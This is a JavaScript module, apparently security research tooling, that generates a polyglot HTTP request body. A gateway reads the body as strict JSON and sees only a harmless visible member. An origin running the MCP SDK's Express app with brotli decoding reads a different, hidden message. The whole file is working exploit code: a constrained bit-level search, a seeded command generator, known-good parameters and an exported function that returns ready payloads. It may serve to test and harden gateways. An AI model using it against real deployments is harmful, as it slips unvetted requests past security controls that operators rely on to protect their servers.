// A request body with two readings: strict JSON, as the gateway reads it, and brotli (RFC 7932),
// as an origin reads it when the request says `Content-Encoding: br` (the official MCP SDK's
// `createMcpExpressApp()` runs `express.json()`, whose body-parser inflates br, gzip and deflate).
//
// As JSON the body is    <ws>{"<junk>":<hidden + spaces>\r<visible tail>
// so the gateway decides on the visible members (say a "ping"), the hidden message being only the
// value of a member it ignores. As brotli it is: meta-block 1 (compressed; emits whitespace),
// meta-block 2 (stored; emits the hidden message and spaces), then the byte '\r', which is a last,
// empty metadata meta-block; a decoder stops there and Node's ignores what follows. So the origin
// decodes the hidden message alone.
//
// Meta-block 1's headers and commands are found by a seeded search: every byte it writes must
// keep the JSON readable (whitespace, then '{', then '"', then string-safe characters), and its
// bit count must leave meta-block 2's header ending exactly on the `":` that closes the member name.
import zlib from 'node:zlib';

// RFC 7932 §5: insert and copy length codes, as [extra bits, base].
const INSERT = [[0, 0], [0, 1], [0, 2], [0, 3], [0, 4], [0, 5], [1, 6], [1, 8], [2, 10], [2, 14], [3, 18], [3, 26], [4, 34], [4, 50], [5, 66], [5, 98], [6, 130], [7, 194], [8, 322], [9, 578], [10, 1090], [12, 2114], [14, 6210], [24, 22594]];
const COPY = [[0, 2], [0, 3], [0, 4], [0, 5], [0, 6], [0, 7], [0, 8], [0, 9], [1, 10], [1, 12], [2, 14], [2, 18], [3, 22], [3, 30], [4, 38], [4, 54], [5, 70], [5, 102], [6, 134], [7, 198], [8, 326], [9, 582], [10, 1094], [24, 2118]];
const iacCodes = (sym) => {
  const cell = sym >> 6;
  return { ins: [0, 0, 0, 0, 8, 8, 0, 16, 8, 16, 16][cell] + ((sym >> 3) & 7), copy: [0, 8, 0, 8, 0, 8, 16, 0, 16, 8, 16][cell] + (sym & 7) };
};

const WS = [0x20, 0x09, 0x0a, 0x0d];
const stringSafe = (b) => b >= 0x20 && b < 0x7f && b !== 0x22 && b !== 0x5c;
/** The JSON grammar over meta-block 1's bytes: ws* '{' ws* '"' string-safe*; -1 when refused. */
function nextState(state, b) {
  if (state === 0) return WS.includes(b) ? 0 : b === 0x7b ? 1 : -1;
  if (state === 1) return WS.includes(b) ? 1 : b === 0x22 ? 2 : -1;
  return stringSafe(b) ? 2 : -1;
}

/**
 * A bit string (LSB first, as brotli reads) that refuses any completed byte the JSON cannot
 * hold. `with` returns a grown copy or null; `push`/`rollback` grow and shrink it in place.
 */
class Bits {
  constructor(bits = [], states = [0]) { this.bits = bits; this.states = states; }

  get state() { return this.states[this.states.length - 1]; }

  with(...fields) {
    const c = new Bits([...this.bits], [...this.states]);
    return c.push(...fields) ? c : null;
  }

  /** Appends the fields; on a refused byte, leaves itself as it was and returns false. */
  push(...fields) {
    const mark = this.bits.length;
    for (let f = 0; f < fields.length; f += 2) {
      const [value, n] = [BigInt(fields[f]), fields[f + 1]];
      for (let i = 0; i < n; i++) {
        this.bits.push(Number((value >> BigInt(i)) & 1n));
        if (this.bits.length % 8 === 0) {
          const state = nextState(this.state, this.byteAt(this.bits.length / 8 - 1));
          if (state < 0) { this.bits.push(0); this.rollback(mark); return false; }
          this.states.push(state);
        }
      }
    }
    if (this.completable()) return true;
    this.rollback(mark);
    return false;
  }

  rollback(length) {
    this.bits.length = length;
    this.states.length = Math.floor(length / 8) + 1;
  }

  byteAt(k) {
    let b = 0;
    for (let j = 0; j < 8 && k * 8 + j < this.bits.length; j++) b |= this.bits[k * 8 + j] << j;
    return b;
  }

  completable() {
    const r = this.bits.length % 8;
    if (r === 0) return true;
    const fixed = this.byteAt(Math.floor(this.bits.length / 8));
    for (let hi = 0; hi < 1 << (8 - r); hi++) if (nextState(this.state, fixed | (hi << r)) >= 0) return true;
    return false;
  }

  bytes() {
    return Buffer.from(Array.from({ length: this.bits.length / 8 }, (_, k) => this.byteAt(k)));
  }
}

function* freeBits(b, n, value = 0n, i = 0) {
  if (i === n) { yield [b, value]; return; }
  for (const bit of [0, 1]) {
    const c = b.with(bit, 1);
    if (c) yield* freeBits(c, n, value | (BigInt(bit) << BigInt(i)), i + 1);
  }
}

/**
 * Meta-block 1's headers: WBITS, a 4-nibble length, one block type of each kind, simple prefix
 * codes (RFC 7932 §3.4) with one whitespace literal (no bits per literal) and one command symbol
 * (no bits per command), and two direct distance codes (1..NDIRECT bytes back: whitespace again).
 */
function* headers(hint) {
  const pick = (name, v) => hint?.[name] === undefined || hint[name] === v;
  for (const [wbits, n] of [[0, 1], [0b1001, 4], [0b1101, 4]].filter(([w]) => pick('wbits', w))) {
    const a = new Bits().with(wbits, n, 0, 1, 0, 2); // ISLAST 0, MNIBBLES 4
    if (!a) continue;
    for (const [b, mlenM1] of freeBits(a, 16)) {
      const c0 = b.with(0, 1, 0, 3); // ISUNCOMPRESSED 0; NBLTYPESL/I/D 1
      if (!c0 || mlenM1 > 60_000n || !pick('mlen', Number(mlenM1) + 1)) continue;
      for (let npostfix = 0; npostfix < 4; npostfix++) for (let nd = 1; nd < 16; nd++) for (let cmode = 0; cmode < 4; cmode++) {
        const c = c0.with(npostfix, 2, nd, 4, cmode, 2, 0, 2); // NTREESL, NTREESD 1
        if (!c || !pick('npostfix', npostfix) || !pick('nd', nd) || !pick('cmode', cmode)) continue;
        const ndirect = nd << npostfix;
        const distBits = Math.ceil(Math.log2(16 + ndirect + (48 << npostfix)));
        for (const lit of WS) {
          const d = c.with(1, 2, 0, 2, lit, 8);
          if (!d || !pick('lit', lit)) continue;
          for (let sym = 128; sym < 704; sym++) {
            const e = d.with(1, 2, 0, 2, sym, 10);
            if (!e || !pick('sym', sym)) continue;
            const { ins, copy } = iacCodes(sym);
            for (let d1 = 16; d1 < 16 + ndirect; d1++) for (let d2 = d1 + 1; d2 < 16 + ndirect; d2++) {
              if (!pick('d1', d1) || !pick('d2', d2)) continue;
              const f = e.with(1, 2, 1, 2, d1, distBits, d2, distBits);
              if (f) yield { f, mlen: Number(mlenM1) + 1, ins: INSERT[ins], copy: COPY[copy], dists: [d1 - 15, d2 - 15] };
            }
          }
        }
      }
    }
  }
}

/** Header fields a run of the full search found to work: a 42,931-byte meta-block 1. */
export const HINT = { wbits: 0, mlen: 42_931, npostfix: 2, nd: 8, cmode: 0, lit: 0x09, sym: 264 };

/** A seeded generator, so the search (and the body) is the same on every run. */
function rng(seed) {
  let s = seed >>> 0;
  return (n) => {
    s = (Math.imul(s ^ (s >>> 15), 0x2c1b3c6d) + 0x6d2b79f5) >>> 0;
    return Math.floor((s / 2 ** 32) * Math.min(n, 2 ** 30));
  };
}

/**
 * Appends commands that emit exactly `total` bytes and end at bit 2 of a byte, to a copy of `b`;
 * null when the tries run out. Commands are chosen at random, each kept if its bits keep the JSON
 * readable; near the end, the last two are solved for exactly, backing off a few when they fail.
 */
function commands(start, total, blk, rnd, tries = 3_000) {
  const b = start.with();
  const [ie, ib] = blk.ins;
  const [ce, cb] = blk.copy;
  const marks = []; // [bit length, bytes left] before each command
  let left = total;
  // The last command: its insert ends the meta-block, its copy extra bits are read all the same.
  const last = (rest) => {
    if (rest < ib || rest >= ib + 2 ** ie) return false;
    for (let k = 0; k < 64; k++) {
      const mark = b.bits.length;
      if (b.push(rest - ib, ie, rnd(2 ** ce), ce)) {
        if (b.bits.length % 8 === 2) return true;
        b.rollback(mark);
      }
    }
    return false;
  };
  while (tries-- > 0) {
    if (last(left)) return b;
    let landed = false;
    for (let k = 0; k < 64 && !landed; k++) {
      const [iv, fv, db] = [rnd(2 ** ie), rnd(2 ** ie), rnd(2)];
      const cv = left - (ib + iv + cb) - (ib + fv);
      if (cv < 0 || cv >= 2 ** ce || total - left + ib + iv < blk.dists[db]) continue;
      const mark = b.bits.length;
      if (b.push(iv, ie, cv, ce, db, 1)) {
        if (last(ib + fv)) landed = true;
        else b.rollback(mark);
      }
    }
    if (landed) return b;
    let stepped = false;
    for (let k = 0; k < 32 && !stepped; k++) {
      const [iv, cv, db] = [rnd(2 ** ie), rnd(2 ** ce), rnd(2)];
      const step = ib + iv + cb + cv;
      if (left - step < 2 * ib + cb || total - left + ib + iv < blk.dists[db]) continue;
      const mark = b.bits.length;
      if (b.push(iv, ie, cv, ce, db, 1)) {
        marks.push([mark, left]);
        left -= step;
        stepped = true;
      }
    }
    if (!stepped) {
      // Back off a few commands and take another way.
      const back = marks.splice(Math.max(0, marks.length - 1 - rnd(8)));
      if (back.length > 0) {
        b.rollback(back[0][0]);
        left = back[0][1];
      }
    }
  }
  return null;
}

/**
 * The body: `hidden` (a JSON text) is what a brotli decoder yields; `visibleTail` closes the JSON
 * the gateway reads (it follows the hidden message, as more members of the same object). The
 * full search takes minutes; `hint` narrows it to header fields known to work (`HINT`).
 */
export function brotliJsonPolyglot(hidden, visibleTail, { seed = 1, hint } = {}) {
  for (const blk of headers(hint)) {
    const h = commands(blk.f, blk.mlen, blk, rng(seed));
    if (!h) continue;
    // Meta-block 2: ISLAST 0, MNIBBLES 4, then 16 bits of MLEN-1 (3 here, 8 in '"', 5 in ':'),
    // ISUNCOMPRESSED in bit 5 of ':' (0x3a) and zero padding above it.
    for (const low of [1, 2, 3]) {
      const t = h.with(0, 1, 0, 2, low, 3);
      if (!t) continue;
      const stored = (low | (0x22 << 3) | ((0x3a & 0x1f) << 11)) + 1;
      if (Buffer.byteLength(hidden) > stored) throw new Error('hidden message too long');
      const body = Buffer.concat([t.bytes(), Buffer.from('":'), Buffer.from(hidden.padEnd(stored, ' ')), Buffer.from('\r'), Buffer.from(visibleTail)]);
      try {
        if (zlib.brotliDecompressSync(body).toString().trim() === hidden) return body;
      } catch {
        // Not this one; go on looking.
      }
    }
  }
  throw new Error('no polyglot found');
}
